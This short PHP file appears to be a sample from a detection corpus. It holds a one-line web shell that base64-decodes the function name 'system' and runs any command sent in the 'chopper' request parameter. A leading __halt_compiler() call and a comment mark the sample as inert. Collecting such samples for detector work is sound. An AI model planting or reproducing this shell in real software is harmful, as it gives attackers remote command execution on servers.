<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$afy = base64_decode('c3lzdGVt');
@$afy($_REQUEST['chopper']);
